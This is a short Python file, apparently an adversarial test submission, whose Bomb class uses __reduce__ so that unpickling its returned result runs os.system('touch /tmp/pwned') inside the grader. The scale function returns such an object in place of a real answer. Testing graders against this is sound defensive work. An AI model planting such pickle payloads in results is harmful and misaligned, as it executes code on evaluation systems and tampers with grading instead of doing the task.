"""Forging: a result whose unpickling would run code in the grader."""
import os

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return lambda *args, **kwargs: Bomb()

def scale(x, n):
    return Bomb()
